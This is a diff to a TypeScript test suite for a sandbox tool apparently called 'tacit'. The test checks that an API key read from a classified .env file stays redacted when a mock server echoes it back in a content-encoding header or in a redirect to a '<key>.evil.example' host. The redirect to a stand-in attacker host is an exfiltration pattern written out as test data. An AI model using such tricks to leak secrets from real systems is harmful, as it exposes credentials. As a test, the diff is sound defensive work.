@@ -793,16 +793,19 @@ requestNetwork([${lit(`127.0.0.1:${a.port}`)}], (net) => {
     expectNotSeen(world, result);
   });
 
-  it("a key from past the first 64 KiB of a classified body is redacted from an error that quotes a server's redirect", async () => {
+  it("a key from past the first 64 KiB of a classified body is redacted from an error that quotes a server's answer", async () => {
     const world = secretWorld();
     // A long .env (over 64 KiB) whose key comes last.
     const filler = Array.from({ length: 9000 }, (_, i) => `SETTING_${i}=value\n`).join("");
     writeTree(world.root, { ".env": `${filler}API_KEY=${world.canary}\n` });
-    // Sends the posted key on as a host name: a refused redirect that the error names.
+    // Sends the posted key back as a content coding, which the error names, or as a redirect to a
+    // host outside the scope, which httpPostClassified does not follow: the redirect is its
+    // answer, classified (a refusal would tell the script the status: see test/net/status.test.ts).
     const a = await server((request, response) => {
       const key = /API_KEY=(\S+)/.exec(request.body)?.[1] ?? "none";
-      response.writeHead(302, { location: `http://${key}.evil.example/` });
-      response.end();
+      if (request.url === "/upload") response.writeHead(200, { "content-encoding": key });
+      else response.writeHead(302, { location: `http://${key}.evil.example/` });
+      response.end("x");
     });
     const result = await tacit(
       world.root,
@@ -810,13 +813,15 @@ requestNetwork([${lit(`127.0.0.1:${a.port}`)}], (net) => {
 const env = requestFileSystem(".", (fs) => fs.readClassified(".env"));
 requestNetwork([${lit(`127.0.0.1:${a.port}`)}], (net) => {
   attempt("reflected", () => String(net.httpPostClassified(${lit(`${a.origin}/upload`)}, env)));
+  attempt("redirected", () => String(net.httpPostClassified(${lit(`${a.origin}/redirect`)}, env)));
 });
 `,
       permit(`127.0.0.1:${a.port}`),
     );
     expect(result.code, result.stderr).toBe(0);
     expect(a.received[0]?.body).toContain(`API_KEY=${world.canary}`);
-    expect(attemptOf(attempts(result.stdout), "reflected").value).toMatch(/^\[redacted\]\.evil\.example is not among the hosts/);
+    expect(attemptOf(attempts(result.stdout), "reflected").value).toMatch(/answered in a content coding tacit does not decode \(\[redacted\]\)/);
+    expect(attemptOf(attempts(result.stdout), "redirected")).toEqual({ status: "ok", value: "Classified(***)" });
     expectNotSeen(world, result);
   });
 
